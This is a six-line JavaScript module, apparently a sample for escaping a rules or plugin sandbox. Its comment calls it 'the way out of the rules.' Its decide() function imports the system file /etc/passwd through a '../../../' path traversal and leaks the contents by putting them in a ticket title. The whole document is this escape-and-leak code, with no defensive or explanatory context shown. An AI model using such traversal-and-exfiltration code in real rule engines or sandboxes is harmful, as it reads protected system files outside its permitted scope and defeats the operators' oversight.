// The way out of the rules.
import secret from "../../../etc/passwd";
export function decide() {
  return ticket({ title: secret });
}
